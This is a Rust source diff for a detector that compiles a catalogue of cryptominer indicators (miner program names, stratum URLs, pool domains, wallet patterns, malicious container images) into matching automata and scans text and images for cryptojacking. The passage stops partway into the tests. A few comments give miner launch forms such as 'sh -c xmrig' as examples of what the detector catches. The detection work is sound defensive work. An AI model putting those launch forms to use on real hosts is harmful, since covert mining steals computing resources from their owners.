@@ -1,13 +1,1634 @@
 //! The miner indicator catalogue (`data/indicators.yaml`), compiled once into multi-pattern
 //! automata.
+//!
+//! Every literal indicator (program names, flags, schemes, pool domains, stratum methods, agent
+//! strings, words, kernel-thread names) goes into ONE Aho-Corasick automaton (ASCII
+//! case-insensitive, overlapping matches), and every regex-shaped indicator (wallets, config
+//! shapes, flag values, pool ports, tradecraft) into ONE [`RegexSet`]. A scan is one automaton
+//! pass plus one set pass; only the set members that matched are then run with
+//! [`Regex::captures_iter`] to get positions. Literal hits are post-filtered for token
+//! boundaries (`minerd` is not in `determinerd`, a pool domain sits at a host label boundary, a
+//! flag is a whole argv-like token).
+//!
+//! Every pattern in the YAML is bounded, and both passes are linear in the text; a scan keeps
+//! at most [`MAX_HITS_PER_INDICATOR`] hits per indicator so that a hostile input cannot make it
+//! allocate without bound.
 
-use crate::CatalogueError;
+use crate::{parse_yaml, CatalogueError};
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
+use serde::Deserialize;
+use std::collections::HashSet;
+
+const FILE: &str = "indicators.yaml";
+
+/// A scan keeps at most this many hits per indicator (the first ones, by position).
+pub const MAX_HITS_PER_INDICATOR: usize = 256;
+
+/// `Hit::matched` is cut to about this many bytes.
+const MATCHED_MAX: usize = 120;
+
+/// How much an indicator says alone.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Strength {
+    Weak,
+    Medium,
+    Strong,
+}
+
+/// The kind of an indicator.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Family {
+    MinerProgram,
+    MinerFlag,
+    GenericMinerFlag,
+    StratumUrl,
+    StratumMethod,
+    PoolDomain,
+    PoolPort,
+    MoneroWallet,
+    EthereumAddress,
+    MinerConfig,
+    MinerImage,
+    MaliciousImage,
+    Tradecraft,
+    KernelThreadName,
+    MiningWord,
+}
+
+/// One indicator found in a text or an image reference.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Hit {
+    /// Indicator id from the YAML.
+    pub id: String,
+    pub family: Family,
+    /// As the catalogue rates it ALONE (the analyser combines). An ambiguous program name
+    /// (`t-rex`) outside executable position is weak.
+    pub strength: Strength,
+    /// Byte range in the scanned text (for a pool domain: the whole host).
+    pub start: usize,
+    pub end: usize,
+    /// The matched text (cut to about 120 bytes).
+    pub matched: String,
+    /// E.g. "XMRig miner program", "Monero wallet address", "stratum (mining protocol) URL".
+    pub what: String,
+    /// For MinerProgram / MinerImage: the program's display name (XMRig, Ethminer).
+    pub program: Option<String>,
+    /// For MinerProgram: the name is in executable position (first word of a command, after
+    /// `./` or a `/path/`, after `exec`/`nohup`/`&&`/`;`/`|`/`sh -c`, a YAML `- ` list item or a
+    /// `command:` value). Always false for other families.
+    pub executable: bool,
+}
+
+// ---------------------------------------------------------------------------------------------
+// The YAML file.
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct IndicatorFile {
+    version: u32,
+    programs: Vec<ProgramDef>,
+    launchers: Vec<String>,
+    command_keys: Vec<String>,
+    agents: Vec<AgentDef>,
+    flags: Vec<LiteralDef>,
+    flag_values: Vec<PatternDef>,
+    generic_flags: Vec<LiteralDef>,
+    schemes: Vec<LiteralDef>,
+    stratum_methods: Vec<LiteralDef>,
+    pool_domains: PoolDomainsDef,
+    pool_ports: PoolPortsDef,
+    wallets: Vec<PatternDef>,
+    miner_configs: Vec<PatternDef>,
+    malicious_images: Vec<MaliciousImageDef>,
+    miner_images: MinerImagesDef,
+    ml_images: Vec<MlImageDef>,
+    tradecraft: Vec<PatternDef>,
+    words: Vec<LiteralDef>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ProgramDef {
+    id: String,
+    name: String,
+    mines: String,
+    names: Vec<String>,
+    #[serde(default)]
+    ambiguous: bool,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct AgentDef {
+    id: String,
+    literal: String,
+    program: String,
+    what: String,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct LiteralDef {
+    id: String,
+    literals: Vec<String>,
+    what: String,
+    strength: Option<Strength>,
+}
+
+/// A regex-shaped indicator (or, in `tradecraft`, possibly a literal one).
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PatternDef {
+    id: String,
+    what: String,
+    strength: Strength,
+    family: Option<Family>,
+    pattern: Option<String>,
+    #[serde(default)]
+    literals: Vec<String>,
+    #[serde(default)]
+    min_distinct: usize,
+    #[serde(default)]
+    requires_any: Vec<String>,
+    #[serde(default)]
+    not_prefixed: Vec<String>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PoolDomainsDef {
+    strength: Strength,
+    what: String,
+    pools: Vec<PoolDef>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PoolDef {
+    id: String,
+    domains: Vec<String>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PoolPortsDef {
+    id: String,
+    what: String,
+    strength: Strength,
+    ports: Vec<u16>,
+    pattern: String,
+    exclude_hosts: Vec<String>,
+    exclude_schemes: Vec<String>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct MaliciousImageDef {
+    id: String,
+    image: String,
+    source: String,
+    what: String,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct MinerImagesDef {
+    id: String,
+    what: String,
+    strength: Strength,
+    words_id: String,
+    words_what: String,
+    words_strength: Strength,
+    words: Vec<String>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct MlImageDef {
+    family: String,
+    images: Vec<String>,
+}
+
+// ---------------------------------------------------------------------------------------------
+// The compiled set.
+
+/// One indicator (one `id`).
+#[derive(Debug)]
+struct Rule {
+    id: String,
+    family: Family,
+    strength: Strength,
+    what: String,
+    program: Option<String>,
+    ambiguous: bool,
+}
+
+/// How a literal hit is checked for boundaries.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Check {
+    /// A whole alphanumeric token (words, kernel-thread names).
+    Token,
+    /// A program name: a whole token; executable position computed.
+    Program,
+    /// An argv-like flag token, case-sensitive.
+    Flag,
+    /// A URL scheme followed by `://`.
+    Scheme,
+    /// A stratum method name.
+    Method,
+    /// A domain suffix at a host label boundary.
+    Domain,
+    /// A case-sensitive agent string followed by a version digit.
+    Agent,
+    /// Only for `scan_image` (mining words in image names).
+    ImageWord,
+}
 
 #[derive(Debug)]
-pub struct IndicatorSet {}
+struct Literal {
+    rule: usize,
+    check: Check,
+    case_sensitive: bool,
+    text: String,
+}
+
+#[derive(Debug)]
+enum Post {
+    Plain,
+    Distinct(usize),
+    Port,
+    /// Counts only when one of these set members matched too.
+    Requires(Vec<usize>),
+}
+
+#[derive(Debug)]
+struct PatternRule {
+    rule: usize,
+    set_index: usize,
+    regex: Regex,
+    post: Post,
+    not_prefixed: Vec<String>,
+}
+
+#[derive(Debug)]
+struct MaliciousImage {
+    rule: usize,
+    /// Normalised repository; `account/` (from `account/*`) matches the whole account.
+    image: String,
+    prefix: bool,
+    source: String,
+}
+
+/// The compiled indicator catalogue.
+#[derive(Debug)]
+pub struct IndicatorSet {
+    version: u32,
+    rules: Vec<Rule>,
+    literals: Vec<Literal>,
+    automaton: AhoCorasick,
+    set: RegexSet,
+    patterns: Vec<PatternRule>,
+    launchers: Vec<String>,
+    command_keys: Vec<String>,
+    port_exclude_hosts: Vec<String>,
+    port_exclude_schemes: Vec<String>,
+    malicious: Vec<MaliciousImage>,
+    image_rule: usize,
+    image_words_rule: usize,
+    ml: Vec<(String, Vec<String>)>,
+}
+
+/// Builds the rule and literal tables while parsing.
+struct Builder {
+    rules: Vec<Rule>,
+    ids: HashSet<String>,
+    literals: Vec<Literal>,
+    set_patterns: Vec<String>,
+    patterns: Vec<PatternRule>,
+}
+
+fn invalid(message: String) -> CatalogueError {
+    CatalogueError::Invalid {
+        file: FILE,
+        message,
+    }
+}
+
+fn compile(id: &str, pattern: &str) -> Result<Regex, CatalogueError> {
+    RegexBuilder::new(pattern)
+        .size_limit(32 << 20)
+        .dfa_size_limit(32 << 20)
+        .build()
+        .map_err(|e| CatalogueError::Regex {
+            file: FILE,
+            id: id.to_string(),
+            pattern: pattern.to_string(),
+            message: e.to_string(),
+        })
+}
+
+impl Builder {
+    fn rule(
+        &mut self,
+        id: &str,
+        family: Family,
+        strength: Strength,
+        what: &str,
+        program: Option<&str>,
+        ambiguous: bool,
+    ) -> Result<usize, CatalogueError> {
+        if id.trim().is_empty() {
+            return Err(invalid(format!("an indicator has an empty id ({what})")));
+        }
+        if !self.ids.insert(id.to_string()) {
+            return Err(invalid(format!("duplicate indicator id {id}")));
+        }
+        self.rules.push(Rule {
+            id: id.to_string(),
+            family,
+            strength,
+            what: what.to_string(),
+            program: program.map(str::to_string),
+            ambiguous,
+        });
+        Ok(self.rules.len() - 1)
+    }
+
+    fn literal(
+        &mut self,
+        rule: usize,
+        check: Check,
+        case_sensitive: bool,
+        text: &str,
+    ) -> Result<(), CatalogueError> {
+        if text.is_empty() || !text.is_ascii() {
+            return Err(invalid(format!(
+                "{}: literal {text:?} must be non-empty ASCII",
+                self.rules[rule].id
+            )));
+        }
+        self.literals.push(Literal {
+            rule,
+            check,
+            case_sensitive,
+            text: text.to_string(),
+        });
+        Ok(())
+    }
+
+    /// Adds a regex to the set; returns its set index.
+    fn set_member(&mut self, id: &str, pattern: &str) -> Result<(usize, Regex), CatalogueError> {
+        let regex = compile(id, pattern)?;
+        self.set_patterns.push(pattern.to_string());
+        Ok((self.set_patterns.len() - 1, regex))
+    }
+
+    fn pattern(
+        &mut self,
+        rule: usize,
+        pattern: &str,
+        post: Post,
+        not_prefixed: Vec<String>,
+    ) -> Result<(), CatalogueError> {
+        let id = self.rules[rule].id.clone();
+        let (set_index, regex) = self.set_member(&id, pattern)?;
+        self.patterns.push(PatternRule {
+            rule,
+            set_index,
+            regex,
+            post,
+            not_prefixed,
+        });
+        Ok(())
+    }
+
+    /// A `flag_values` / `wallets` / `miner_configs` / `tradecraft` entry.
+    fn pattern_def(&mut self, d: &PatternDef, default: Family) -> Result<(), CatalogueError> {
+        let family = d.family.unwrap_or(default);
+        let rule = self.rule(&d.id, family, d.strength, &d.what, None, false)?;
+        for l in &d.literals {
+            self.literal(rule, Check::Token, false, l)?;
+        }
+        match &d.pattern {
+            Some(p) => {
+                let post = if !d.requires_any.is_empty() {
+                    let mut req = Vec::new();
+                    for r in &d.requires_any {
+                        req.push(self.set_member(&d.id, r)?.0);
+                    }
+                    Post::Requires(req)
+                } else if d.min_distinct > 0 {
+                    Post::Distinct(d.min_distinct)
+                } else {
+                    Post::Plain
+                };
+                self.pattern(rule, p, post, d.not_prefixed.clone())?;
+            }
+            None if d.literals.is_empty() => {
+                return Err(invalid(format!("{}: needs a pattern or literals", d.id)))
+            }
+            None => {}
+        }
+        Ok(())
+    }
+}
 
 impl IndicatorSet {
-    pub fn parse(_text: &str) -> Result<IndicatorSet, CatalogueError> {
-        Ok(IndicatorSet {})
+    pub fn parse(text: &str) -> Result<IndicatorSet, CatalogueError> {
+        let f: IndicatorFile = parse_yaml(FILE, text)?;
+        let mut b = Builder {
+            rules: Vec::new(),
+            ids: HashSet::new(),
+            literals: Vec::new(),
+            set_patterns: Vec::new(),
+            patterns: Vec::new(),
+        };
+
+        for p in &f.programs {
+            let what = format!("{} miner program ({})", p.name, p.mines);
+            let rule = b.rule(
+                &p.id,
+                Family::MinerProgram,
+                Strength::Strong,
+                &what,
+                Some(&p.name),
+                p.ambiguous,
+            )?;
+            if p.names.is_empty() {
+                return Err(invalid(format!("{}: no names", p.id)));
+            }
+            for n in &p.names {
+                b.literal(rule, Check::Program, false, n)?;
+            }
+        }
+        for a in &f.agents {
+            let rule = b.rule(
+                &a.id,
+                Family::MinerProgram,
+                Strength::Strong,
+                &a.what,
+                Some(&a.program),
+                false,
+            )?;
+            b.literal(rule, Check::Agent, true, &a.literal)?;
+        }
+        let literal_sections: [(&[LiteralDef], Family, Strength, Check, bool); 5] = [
+            (
+                &f.flags,
+                Family::MinerFlag,
+                Strength::Strong,
+                Check::Flag,
+                true,
+            ),
+            (
+                &f.generic_flags,
+                Family::GenericMinerFlag,
+                Strength::Weak,
+                Check::Flag,
+                true,
+            ),
+            (
+                &f.schemes,
+                Family::StratumUrl,
+                Strength::Strong,
+                Check::Scheme,
+                false,
+            ),
+            (
+                &f.stratum_methods,
+                Family::StratumMethod,
+                Strength::Strong,
+                Check::Method,
+                false,
+            ),
+            (
+                &f.words,
+                Family::MiningWord,
+                Strength::Weak,
+                Check::Token,
+                false,
+            ),
+        ];
+        for (defs, family, strength, check, case_sensitive) in literal_sections {
+            for d in defs {
+                let s = d.strength.unwrap_or(strength);
+                let rule = b.rule(&d.id, family, s, &d.what, None, false)?;
+                for l in &d.literals {
+                    b.literal(rule, check, case_sensitive, l)?;
+                }
+            }
+        }
+        for d in &f.flag_values {
+            b.pattern_def(d, Family::MinerFlag)?;
+        }
+        for p in &f.pool_domains.pools {
+            let rule = b.rule(
+                &p.id,
+                Family::PoolDomain,
+                f.pool_domains.strength,
+                &f.pool_domains.what,
+                None,
+                false,
+            )?;
+            for d in &p.domains {
+                b.literal(rule, Check::Domain, false, d)?;
+            }
+        }
+        {
+            let pp = &f.pool_ports;
+            if pp.ports.is_empty() || !pp.pattern.contains("{ports}") {
+                return Err(invalid(format!(
+                    "{}: needs ports and a {{ports}} placeholder",
+                    pp.id
+                )));
+            }
+            let ports: Vec<String> = pp.ports.iter().map(u16::to_string).collect();
+            let pattern = pp.pattern.replace("{ports}", &ports.join("|"));
+            let rule = b.rule(&pp.id, Family::PoolPort, pp.strength, &pp.what, None, false)?;
+            b.pattern(rule, &pattern, Post::Port, Vec::new())?;
+        }
+        for d in &f.wallets {
+            b.pattern_def(d, Family::MoneroWallet)?;
+        }
+        for d in &f.miner_configs {
+            b.pattern_def(d, Family::MinerConfig)?;
+        }
+        for d in &f.tradecraft {
+            b.pattern_def(d, Family::Tradecraft)?;
+        }
+
+        let mut malicious = Vec::new();
+        for m in &f.malicious_images {
+            let what = format!("{} (reported: {})", m.what, m.source);
+            let rule = b.rule(
+                &m.id,
+                Family::MaliciousImage,
+                Strength::Strong,
+                &what,
+                None,
+                false,
+            )?;
+            let norm = normalise_repo(&m.image);
+            let (image, prefix) = match norm.strip_suffix("/*") {
+                Some(account) => (format!("{account}/"), true),
+                None => (norm, false),
+            };
+            malicious.push(MaliciousImage {
+                rule,
+                image,
+                prefix,
+                source: m.source.clone(),
+            });
+        }
+        let mi = &f.miner_images;
+        let image_rule = b.rule(
+            &mi.id,
+            Family::MinerImage,
+            mi.strength,
+            &mi.what,
+            None,
+            false,
+        )?;
+        let image_words_rule = b.rule(
+            &mi.words_id,
+            Family::MinerImage,
+            mi.words_strength,
+            &mi.words_what,
+            None,
+            false,
+        )?;
+        for w in &mi.words {
+            b.literal(image_words_rule, Check::ImageWord, false, w)?;
+        }
+
+        let ml = f
+            .ml_images
+            .iter()
+            .map(|m| {
+                let pats = m
+                    .images
+                    .iter()
+                    .map(|i| {
+                        let keep_slash = i.ends_with('/');
+                        let mut n = normalise_repo(i.trim_end_matches('/'));
+                        if keep_slash {
+                            n.push('/');
+                        }
+                        n
+                    })
+                    .collect();
+                (m.family.clone(), pats)
+            })
+            .collect();
+
+        let automaton = AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::Standard)
+            .build(b.literals.iter().map(|l| l.text.as_bytes()))
+            .map_err(|e| invalid(format!("literal automaton: {e}")))?;
+        let set = RegexSetBuilder::new(&b.set_patterns)
+            .size_limit(256 << 20)
+            .dfa_size_limit(64 << 20)
+            .build()
+            .map_err(|e| invalid(format!("regex set: {e}")))?;
+
+        let lower = |v: &[String]| v.iter().map(|s| s.to_ascii_lowercase()).collect();
+        Ok(IndicatorSet {
+            version: f.version,
+            rules: b.rules,
+            literals: b.literals,
+            automaton,
+            set,
+            patterns: b.patterns,
+            launchers: lower(&f.launchers),
+            command_keys: lower(&f.command_keys),
+            port_exclude_hosts: lower(&f.pool_ports.exclude_hosts),
+            port_exclude_schemes: lower(&f.pool_ports.exclude_schemes),
+            malicious,
+            image_rule,
+            image_words_rule,
+            ml,
+        })
+    }
+
+    pub fn version(&self) -> u32 {
+        self.version
+    }
+
+    /// Number of indicators (distinct ids).
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// The ids of every indicator, in catalogue order.
+    pub fn ids(&self) -> impl Iterator<Item = &str> {
+        self.rules.iter().map(|r| r.id.as_str())
+    }
+
+    /// The family and `what` of an indicator.
+    pub fn describe(&self, id: &str) -> Option<(Family, Strength, &str)> {
+        self.rules
+            .iter()
+            .find(|r| r.id == id)
+            .map(|r| (r.family, r.strength, r.what.as_str()))
+    }
+
+    /// The public report that names a malicious image indicator.
+    pub fn source(&self, id: &str) -> Option<&str> {
+        self.malicious
+            .iter()
+            .find(|m| self.rules[m.rule].id == id)
+            .map(|m| m.source.as_str())
+    }
+
+    fn hit(&self, rule: usize, text: &str, start: usize, end: usize, exec: bool) -> Hit {
+        let r = &self.rules[rule];
+        let strength = if r.ambiguous && !exec {
+            Strength::Weak
+        } else {
+            r.strength
+        };
+        Hit {
+            id: r.id.clone(),
+            family: r.family,
+            strength,
+            start,
+            end,
+            matched: cut(&text[start..end]),
+            what: r.what.clone(),
+            program: r.program.clone(),
+            executable: exec && r.family == Family::MinerProgram,
+        }
+    }
+
+    /// Every indicator in a text: one automaton pass plus one regex-set pass. Hits sorted by
+    /// start (then end, then id); at most [`MAX_HITS_PER_INDICATOR`] per indicator.
+    pub fn scan_text(&self, text: &str) -> Vec<Hit> {
+        let mut hits = Vec::new();
+        let mut counts = vec![0usize; self.rules.len()];
+        let bytes = text.as_bytes();
+
+        for m in self.automaton.find_overlapping_iter(text) {
+            let lit = &self.literals[m.pattern().as_usize()];
+            if lit.check == Check::ImageWord || counts[lit.rule] >= MAX_HITS_PER_INDICATOR {
+                continue;
+            }
+            let (s, e) = (m.start(), m.end());
+            if lit.case_sensitive && &bytes[s..e] != lit.text.as_bytes() {
+                continue;
+            }
+            if let Some((s, e, exec)) = self.literal_bounds(text, lit.check, s, e) {
+                counts[lit.rule] += 1;
+                hits.push(self.hit(lit.rule, text, s, e, exec));
+            }
+        }
+
+        if !self.patterns.is_empty() {
+            let matched = self.set.matches(text);
+            if matched.matched_any() {
+                for p in &self.patterns {
+                    if !matched.matched(p.set_index) {
+                        continue;
+                    }
+                    if let Post::Requires(req) = &p.post {
+                        if !req.iter().any(|&i| matched.matched(i)) {
+                            continue;
+                        }
+                    }
+                    for caps in p.regex.captures_iter(text) {
+                        if counts[p.rule] >= MAX_HITS_PER_INDICATOR {
+                            break;
+                        }
+                        let Some(m) = caps.name("m").or_else(|| caps.get(0)) else {
+                            continue;
+                        };
+                        let span = m.as_str();
+                        if p.not_prefixed.iter().any(|x| span.starts_with(x.as_str())) {
+                            continue;
+                        }
+                        let ok = match &p.post {
+                            Post::Plain | Post::Requires(_) => true,
+                            Post::Distinct(n) => span.bytes().collect::<HashSet<u8>>().len() >= *n,
+                            Post::Port => caps
+                                .name("host")
+                                .is_some_and(|h| self.pool_host(text, h.start(), h.as_str())),
+                        };
+                        if ok {
+                            counts[p.rule] += 1;
+                            hits.push(self.hit(p.rule, text, m.start(), m.end(), false));
+                        }
+                    }
+                }
+            }
+        }
+
+        hits.sort_by(|a, b| (a.start, a.end, &a.id).cmp(&(b.start, b.end, &b.id)));
+        hits.dedup_by(|a, b| a.start == b.start && a.end == b.end && a.id == b.id);
+        hits
+    }
+
+    /// Boundary checks for a literal hit; returns the (possibly widened) span and whether a
+    /// program name is in executable position.
+    fn literal_bounds(
+        &self,
+        text: &str,
+        check: Check,
+        s: usize,
+        e: usize,
+    ) -> Option<(usize, usize, bool)> {
+        let b = text.as_bytes();
+        let prev = if s > 0 { Some(b[s - 1]) } else { None };
+        let next = b.get(e).copied();
+        let alnum = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
+        match check {
+            Check::Token | Check::ImageWord => {
+                (!alnum(prev) && !alnum(next)).then_some((s, e, false))
+            }
+            Check::Program => {
+                if alnum(prev) || alnum(next) {
+                    return None;
+                }
+                Some((s, e, self.executable_position(text, s)))
+            }
+            Check::Flag => {
+                let before = matches!(
+                    prev,
+                    None | Some(
+                        b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'=' | b'[' | b',' | b'('
+                    )
+                );
+                let after = matches!(
+                    next,
+                    None | Some(
+                        b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'=' | b',' | b']' | b')'
+                    )
+                );
+                (before && after).then_some((s, e, false))
+            }
+            Check::Scheme => {
+                let bad_prev =
+                    prev.is_some_and(|c| c.is_ascii_alphanumeric() || b"+.-".contains(&c));
+                (!bad_prev && text[e..].starts_with("://")).then_some((s, e, false))
+            }
+            Check::Method => {
+                let bad_prev =
+                    prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.');
+                let bad_next = next.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_');
+                (!bad_prev && !bad_next).then_some((s, e, false))
+            }
+            Check::Domain => {
+                let host = |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'_';
+                if prev.is_some_and(host) || next.is_some_and(host) {
+                    return None;
+                }
+                if next == Some(b'.') && b.get(e + 1).is_some_and(|c| c.is_ascii_alphanumeric()) {
+                    return None; // supportxmr.com.example.net
+                }
+                // Widen to the whole host (pool.supportxmr.com), bounded.
+                let mut start = s;
+                while start > 0 && s - start < 253 && (host(b[start - 1]) || b[start - 1] == b'.') {
+                    start -= 1;
+                }
+                while start < s && b[start] == b'.' {
+                    start += 1;
+                }
+                Some((start, e, false))
+            }
+            Check::Agent => {
+                let bad_prev = prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'/');
+                let digit = next.is_some_and(|c| c.is_ascii_digit());
+                (!bad_prev && digit).then_some((s, e, false))
+            }
+        }
+    }
+
+    /// A program name at `start` is in executable position: first word of a command, after a
+    /// path, after a launcher (`exec`, `nohup`, ...), a shell operator, `sh -c`, a YAML list
+    /// dash or a `command:` key.
+    fn executable_position(&self, text: &str, start: usize) -> bool {
+        let b = text.as_bytes();
+        if start > 0 && b[start - 1] == b'/' {
+            return true; // ./xmrig, /usr/bin/xmrig
+        }
+        let mut i = start;
+        // Opening quotes, then blanks.
+        let mut n = 0;
+        while i > 0 && matches!(b[i - 1], b'"' | b'\'') && n < 2 {
+            i -= 1;
+            n += 1;
+        }
+        while i > 0 && matches!(b[i - 1], b' ' | b'\t') {
+            i -= 1;
+        }
+        if i == 0 {
+            return true;
+        }
+        match b[i - 1] {
+            b'\n' | b'\r' | b';' | b'&' | b'|' | b'(' | b'`' | b'[' | b'{' => return true,
+            b'-' => {
+                // YAML list item: "- xmrig" at the start of a line (not a flag "-t-rex").
+                let mut j = i - 1;
+                while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
+                    j -= 1;
+                }
+                return (j == 0 || b[j - 1] == b'\n') && i < start;
+            }
+            b':' => {
+                let key = prev_word(text, i - 1);
+                let key = key.trim_matches(|c| c == '"' || c == '\'');
+                return self
+                    .command_keys
+                    .iter()
+                    .any(|k| k.eq_ignore_ascii_case(key));
+            }
+            _ => {}
+        }
+        let raw = prev_word(text, i);
+        let word = raw.trim_matches(|c| c == '"' || c == '\'');
+        if self.launchers.iter().any(|l| l.eq_ignore_ascii_case(word)) {
+            return true;
+        }
+        if word == "-c" {
+            // sh -c xmrig / bash -c "xmrig ..."
+            let mut j = i - raw.len();
+            while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
+                j -= 1;
+            }
+            let shell = prev_word(text, j);
+            let shell = shell.rsplit('/').next().unwrap_or(shell);
+            return matches!(shell, "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh");
+        }
+        false
+    }
+
+    /// A `host:port` port hit stands: a named host (or IPv4), not loopback/any, not an
+    /// http(s) URL, not a YAML port key.
+    fn pool_host(&self, text: &str, host_start: usize, host: &str) -> bool {
+        let h = host.to_ascii_lowercase();
+        if self.port_exclude_hosts.contains(&h) || h.starts_with("127.") {
+            return false;
+        }
+        let ipv4 = h.split('.').count() == 4
+            && h.split('.')
+                .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_digit()));
+        if !ipv4 && !h.bytes().any(|c| c.is_ascii_alphabetic()) {
+            return false;
+        }
+        let before = &text.as_bytes()[..host_start];
+        if before.last().is_some_and(|&c| c == b'_' || c == b':') && !before.ends_with(b"://") {
+            return false;
+        }
+        if let Some(rest) = before.strip_suffix(b"://") {
+            let scheme_start = rest
+                .iter()
+                .rposition(|c| !(c.is_ascii_alphanumeric() || b"+.-".contains(c)))
+                .map_or(0, |p| p + 1);
+            let scheme = String::from_utf8_lossy(&rest[scheme_start..]).to_ascii_lowercase();
+            if self.port_exclude_schemes.contains(&scheme) {
+                return false;
+            }
+        }
+        true
+    }
+
+    /// Hits on a container image reference: known malicious images, images named for a miner
+    /// (program names as a whole path component or a `-`/`_`/`.`-bounded part of one) or for
+    /// mining. Spans are byte ranges in `image`.
+    pub fn scan_image(&self, image: &str) -> Vec<Hit> {
+        let repo_end = repo_end(image);
+        let repo = &image[..repo_end];
+        let norm = normalise_repo(repo);
+        let mut hits = Vec::new();
+        for m in &self.malicious {
+            let holds = if m.prefix {
+                norm.starts_with(&m.image)
+            } else {
+                norm == m.image
+            };
+            if holds {
+                hits.push(self.hit(m.rule, image, 0, repo_end, false));
+            }
+        }
+        let b = repo.as_bytes();
+        let sep = |c: Option<&u8>| c.is_none_or(|c| b"/-_.:".contains(c));
+        let mut seen = HashSet::new();
+        for m in self.automaton.find_overlapping_iter(repo) {
+            let lit = &self.literals[m.pattern().as_usize()];
+            let (s, e) = (m.start(), m.end());
+            if !matches!(lit.check, Check::Program | Check::ImageWord) {
+                continue;
+            }
+            if !sep(if s > 0 { b.get(s - 1) } else { None }) || !sep(b.get(e)) {
+                continue;
+            }
+            let r = &self.rules[lit.rule];
+            let rule = if lit.check == Check::Program {
+                self.image_rule
+            } else {
+                self.image_words_rule
+            };
+            let key = (rule, r.program.clone());
+            if !seen.insert(key) {
+                continue;
+            }
+            let mut hit = self.hit(rule, image, s, e, false);
+            if lit.check == Check::Program {
+                hit.program = r.program.clone();
+                hit.what = format!("{} ({})", self.rules[rule].what, r.what);
+                if r.ambiguous {
+                    hit.strength = Strength::Weak;
+                }
+            }
+            hits.push(hit);
+        }
+        hits.sort_by(|a, b| (a.start, a.end, &a.id).cmp(&(b.start, b.end, &b.id)));
+        hits
+    }
+
+    /// The ML family of an image ("TensorFlow", "PyTorch", "Jupyter", "Ray", ...), if it is one.
+    pub fn ml_image(&self, image: &str) -> Option<&str> {
+        let norm = normalise_repo(&image[..repo_end(image)]);
+        for (family, pats) in &self.ml {
+            for p in pats {
+                let holds = if p.ends_with('/') {
+                    norm.starts_with(p.as_str())
+                } else {
+                    norm == *p
+                        || norm
+                            .strip_prefix(p.as_str())
+                            .is_some_and(|r| r.starts_with('-') || r.starts_with('/'))
+                };
+                if holds {
+                    return Some(family);
+                }
+            }
+        }
+        None
+    }
+}
+
+/// The word (run of non-blank bytes) that ends at `end`.
+fn prev_word(text: &str, end: usize) -> &str {
+    let b = text.as_bytes();
+    let mut s = end;
+    while s > 0 && !b[s - 1].is_ascii_whitespace() && end - s < 64 {
+        s -= 1;
+    }
+    text.get(s..end).unwrap_or("")
+}
+
+/// End of the repository part of an image reference (before `:tag` and `@digest`).
+fn repo_end(image: &str) -> usize {
+    let end = image.find('@').unwrap_or(image.len());
+    let s = &image[..end];
+    let after_slash = s.rfind('/').map_or(0, |p| p + 1);
+    match s[after_slash..].find(':') {
+        Some(c) => after_slash + c,
+        None => end,
+    }
+}
+
+/// Lower-case repository with the Docker Hub registry and `library/` dropped.
+fn normalise_repo(repo: &str) -> String {
+    let mut r = repo.trim().to_ascii_lowercase();
+    for p in [
+        "docker.io/",
+        "index.docker.io/",
+        "registry-1.docker.io/",
+        "registry.hub.docker.com/",
+    ] {
+        if let Some(rest) = r.strip_prefix(p) {
+            r = rest.to_string();
+            break;
+        }
+    }
+    if let Some(rest) = r.strip_prefix("library/") {
+        r = rest.to_string();
+    }
+    r
+}
+
+/// `s` cut to about [`MATCHED_MAX`] bytes at a char boundary.
+fn cut(s: &str) -> String {
+    if s.len() <= MATCHED_MAX {
+        return s.to_string();
+    }
+    let mut end = MATCHED_MAX;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    format!("{}…", &s[..end])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::INDICATORS_YAML;
+    use std::sync::OnceLock;
+
+    fn set() -> &'static IndicatorSet {
+        static SET: OnceLock<IndicatorSet> = OnceLock::new();
+        SET.get_or_init(|| IndicatorSet::parse(INDICATORS_YAML).unwrap())
+    }
+
+    fn hits(text: &str) -> Vec<Hit> {
+        set().scan_text(text)
+    }
+
+    fn fam(text: &str, f: Family) -> Vec<Hit> {
+        hits(text).into_iter().filter(|h| h.family == f).collect()
+    }
+
+    fn max_strength(text: &str) -> Option<Strength> {
+        hits(text).iter().map(|h| h.strength).max()
